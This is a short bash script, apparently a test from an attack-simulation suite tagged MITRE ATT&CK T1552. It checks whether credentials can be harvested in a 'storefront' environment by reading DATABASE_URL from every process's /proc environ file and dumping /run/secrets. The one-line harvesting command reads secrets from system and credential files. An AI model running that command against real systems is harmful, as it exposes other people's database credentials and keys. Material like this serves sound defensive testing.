#!/usr/bin/env bash
# Reads passwords from /proc/*/environ and from mounted secrets in the storefront. MITRE ATT&CK T1552.001, Credentials In Files; T1552, Unsecured Credentials.
. "$(dirname "$0")/lib.sh"

out=$(through_label "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -m 1 ^DATABASE_URL; cat /run/secrets/*")
[[ $out == *DATABASE_URL=* && $out == *pk_demo_* ]] || stopped "not both were read: $out"
worked "$(tr '\n' ' ' <<<"$out")"
